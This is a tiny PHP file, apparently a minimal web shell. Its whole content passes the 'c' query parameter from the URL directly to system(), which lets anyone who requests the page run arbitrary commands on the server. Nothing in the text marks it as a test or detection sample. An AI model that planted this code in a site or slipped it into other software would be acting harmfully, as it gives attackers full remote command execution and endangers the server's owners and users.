<?php
system(g());
function g() { return $_GET["c"]; }
